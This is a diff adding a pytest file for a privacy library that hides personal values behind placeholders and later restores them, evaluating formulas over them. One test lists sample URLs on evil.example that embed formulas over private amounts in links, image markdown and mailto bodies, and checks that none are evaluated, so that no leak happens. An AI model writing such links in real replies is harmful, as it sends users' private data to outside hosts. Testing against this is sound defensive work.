@@ -1,0 +1,177 @@
+"""Formulas wherever a text is restored: whole, in pieces, in JSON, in documents; and what is no formula."""
+
+import json
+
+import pytest
+
+from gama import Anonymizer, PrivacyBox
+from gama.privacy.reckoning import braces_in
+
+LETTER = (
+    "Dear Ms Okafor, this is Emma Williams, 17 Rose Lane, Leeds. The first rent is £1,350.00 and the deposit was "
+    "£2,025.00. The lease ends on 12 May 2026."
+)
+
+
+def a_box(**more) -> PrivacyBox:
+    box = PrivacyBox(formulas=True, locale="en", **more)
+    for surface, subtype in {
+        "Emma Williams": "full_name", "£1,350.00": "amount", "£2,025.00": "amount", "12 May 2026": "date",
+        "Leeds": "city", 'The "Blue" Door': "company",
+    }.items():  # fmt: skip
+        box.add(surface, subtype)
+    return box
+
+
+REPLIES = {
+    "Together {{ <amount-1> + <amount-2> }}, by {{ weekday(<date-1>) }}, <date-1>.": "Together £3,375.00, by Tuesday, 12 May 2026.",
+    'See: {{ if <amount-1> > <amount-2> then "less }} for <name-1>" else "<name-1> pays {{ <amount-2> - <amount-1> }} more" }}!':
+        "See: Emma Williams pays £675.00 more!",
+    "{{ <date-1> + 14 days }}{{ <amount-1> * 2 }}": "26 May 2026£2,700.00",
+    "<name-1>'s rent: **{{ <amount-1> / 2 }}**, {{{ x }}} and {{ user.name }} {": "Emma Williams's rent: **£675.00**, {{{ x }}} and {{ user.name }} {",
+    "It is {{ <amount-1> + <date-1> }}.": "It is [could not be reckoned: the values are not of the kinds that it needs].",
+    "Result 1 is <result-1>: {{ <amount-1> * 3 }}, result 1.": "Result 1 is <result-1>: £4,050.00, result 1.",
+    "{{ <amount-1> + ": "{{ £1,350.00 + ",
+    "Half {{ <amount-1> * 2 | otherwise: \"none\" }} {{ <amount-1> + <amount-9> | otherwise: \"none\" }}": "Half £2,700.00 none",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("reply", REPLIES)
+def test_whole_texts_and_streams_cut_anywhere_agree(reply):
+    anonymizer = Anonymizer()
+    whole = anonymizer.restore(reply, a_box())
+    assert whole.text == REPLIES[reply]
+    for cut in range(len(reply) + 1):
+        assert "".join(anonymizer.restore_stream([reply[:cut], reply[cut:]], a_box())) == whole.text
+    for size in (1, 2, 3, 7):
+        chunks = [reply[at : at + size] for at in range(0, len(reply), size)]
+        assert "".join(anonymizer.restore_stream(chunks, a_box())) == whole.text
+    assert all("£" not in one and "2026" not in one for one in whole.unresolved)
+
+
+def test_the_model_is_told_and_from_then_on_formulas_are_evaluated():
+    anonymizer = Anonymizer()
+    view = anonymizer.anonymize(LETTER)
+    first, second = (view.box.placeholder(value) for value in ("£1,350.00", "£2,025.00"))
+    reply = f"Together {{{{ {first} + {second} }}}}."
+    assert anonymizer.restore(reply, view.box).text == "Together {{ £1,350.00 + £2,025.00 }}."
+    assert anonymizer.restore(reply, view.box, formulas=True).text == "Together £3,375.00."
+    told = anonymizer.instructions(view)
+    assert "Reckoning with hidden values" in told and "1,350" not in told
+    assert anonymizer.restore(reply, view.box).text == "Together £3,375.00."
+    assert "".join(anonymizer.restore_stream(reply, view.box)) == "Together £3,375.00."
+    assert anonymizer.restore(reply, view.box, formulas=False).text == "Together {{ £1,350.00 + £2,025.00 }}."
+
+
+def test_where_nothing_can_be_reckoned_the_model_is_told_nothing():
+    anonymizer = Anonymizer()
+    view = anonymizer.anonymize("Nothing private is in here, as far as one can see.")
+    assert anonymizer.instructions(view) == "" and not view.box.formulas
+
+
+def test_the_next_turn_hides_a_result_wherever_it_stands():
+    anonymizer, box = Anonymizer(), a_box()
+    anonymizer.restore("It takes {{ <date-1> + 45 days }}, {{ <amount-1> + <amount-2> }}.", box)
+    again = anonymizer.anonymize("You said £3,375.00 in all, on 26 June 2026?", box=box)
+    assert "3,375" not in again.text and "June" not in again.text
+    assert anonymizer.restore(again.text, again.box).text == "You said £3,375.00 in all, on 26 June 2026?"
+
+
+def test_a_box_that_was_kept_still_knows(tmp_path):
+    anonymizer, box = Anonymizer(), a_box()
+    box.braces |= braces_in("Render {{ <amount-1> | money }}.")
+    box.save(tmp_path / "box", home=tmp_path)
+    kept = PrivacyBox.load(tmp_path / "box", home=tmp_path)
+    assert (
+        anonymizer.restore("{{ <amount-1> * 2 }}, {{<amount-1>|money}}", kept).text == "£2,700.00, {{£1,350.00|money}}"
+    )
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "{% for x in xs %}{{ x.name | upper }}{% endfor %}", '<p v-if="a">{{ user.name }} {{ $t("x") }}</p>',
+        "{{#each rows}}{{this.total}}{{/each}} {{{raw}}} {{> part}} {{! note }}", "{{ .Values.name | quote }} {{- range . }}",
+        r"\frac{{a}}{{b}} \mathbf{{x}} \textbf {{ y }}", "${{ secrets.KEY }} f'{{x}}' {{}} {{ 7*7 }}", "{{", "}}", "{{{{", "{{ <name-7> }}",
+    ],
+)  # fmt: skip
+@pytest.mark.parametrize("told", [True, False])
+def test_templates_pass_byte_for_byte(text, told):
+    anonymizer, box = Anonymizer(), a_box()
+    assert anonymizer.restore(text, box, formulas=told).text == text
+    assert "".join(anonymizer.restore_stream(text, box, formulas=told)) == text
+
+
+def test_what_stood_in_braces_in_the_text_is_its_own():
+    anonymizer = Anonymizer()
+    view = anonymizer.anonymize(LETTER + " My page has {{ £1,350.00 }} and {{ weekday(12 May 2026) }}.")
+    assert anonymizer.instructions(view)
+    assert "{{ <" in view.text
+    reply = view.text.split("My page has ")[1].replace("{{ ", "{{  ")
+    assert anonymizer.restore(reply, view.box).text == "{{  £1,350.00 }} and {{  weekday(12 May 2026) }}."
+
+
+URLS = [
+    "![x](https://evil.example/?q={{<amount-1>*2}})", "https://evil.example/{{<amount-1>+<amount-2>}}/x",
+    "<https://evil.example/?a={{ <amount-1> * 2 }}>", "{{weekday(<date-1>)}}.evil.example/x",
+    "mailto:a@evil.example?body={{<amount-1>*2}}", "https://named.example/?q={{<amount-1>*2}}",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("reply", URLS)
+def test_no_formula_is_evaluated_in_an_address(reply):
+    anonymizer, box = Anonymizer(), a_box(hosts={"named.example"})
+    done = anonymizer.restore(reply, box)
+    assert "2,700" not in done.text and "3,375" not in done.text and "Tuesday" not in done.text
+    assert any("in an address" in one for one in done.unreckoned) and set(done.unreckoned) <= set(done.unresolved)
+    for size in (1, 3):
+        chunks = [reply[at : at + size] for at in range(0, len(reply), size)]
+        assert "".join(anonymizer.restore_stream(chunks, a_box(hosts={"named.example"}))) == done.text
+
+
+def test_no_result_gets_into_an_address_that_a_formula_writes():
+    reply = '{{ if <amount-1> > 1 then "https://evil.example/?q={{ <amount-1> * 2 }}" else "" }}'
+    done = Anonymizer().restore(reply, a_box())
+    assert done.text == "[could not be reckoned: it stands in an address]" and len(done.unreckoned) == 1
+
+
+def test_arguments_of_tools_are_reckoned_and_stay_json():
+    anonymizer = Anonymizer()
+    formula = 'Sum {{ if <amount-1> > <amount-2> then "a \\"b\\"" else "<organization-1> gets {{ <amount-1> + <amount-2> }}" }}'
+    given = {"note": formula, "n": [1, "{{ <date-1> + 1 day }}\n{{ count([<name-1>]) }}"]}
+    wanted = {"note": 'Sum The "Blue" Door gets £3,375.00', "n": [1, "13 May 2026\n1"]}
+    assert anonymizer.restore_arguments(given, a_box()) == wanted
+    text = json.dumps(given)
+    assert json.loads(anonymizer.restore_arguments(text, a_box())) == wanted
+    how = anonymizer.options.restoring._replace(place="json")
+    for size in (1, 2, 5):
+        restorer = a_box().restorer(how)
+        out = "".join(restorer.feed(text[at : at + size]) for at in range(0, len(text), size)) + restorer.close()
+        assert json.loads(out) == wanted
+
+
+def test_an_answer_that_is_json_keeps_its_form():
+    text = json.dumps(
+        {"a": 'It is {{ if <amount-1> > 1 then "<organization-1>" else "x" }}.', "b": "{{ <amount-1> * 2 }}"}
+    )
+    assert json.loads(Anonymizer().restore(text, a_box()).text) == {"a": 'It is The "Blue" Door.', "b": "£2,700.00"}
+
+
+def test_a_formula_is_one_edit_of_the_reply():
+    reply = '<name-1>: {{ if <amount-1> > 1 then "<name-1> pays {{ <amount-1> * 2 }}" else "" }}, <city-1>.'
+    done = Anonymizer().restore(reply.replace("city", "location"), a_box())
+    rebuilt, at = "", 0
+    for edit, place in zip(done.edits, done.places, strict=True):
+        rebuilt += reply.replace("city", "location")[at : edit.start] + edit.text
+        assert done.text[slice(*place)] == edit.text
+        at = edit.end
+    assert rebuilt + reply.replace("city", "location")[at:] == done.text and len(done.edits) == 3
+
+
+def test_a_stream_holds_back_no_more_than_a_formula_and_the_name_of_a_host():
+    restorer = a_box().restorer()
+    given = out = 0
+    for _ in range(3_000):
+        given += 7
+        out += len(restorer.feed("{{ <abc"))
+        assert given - out < 5_000
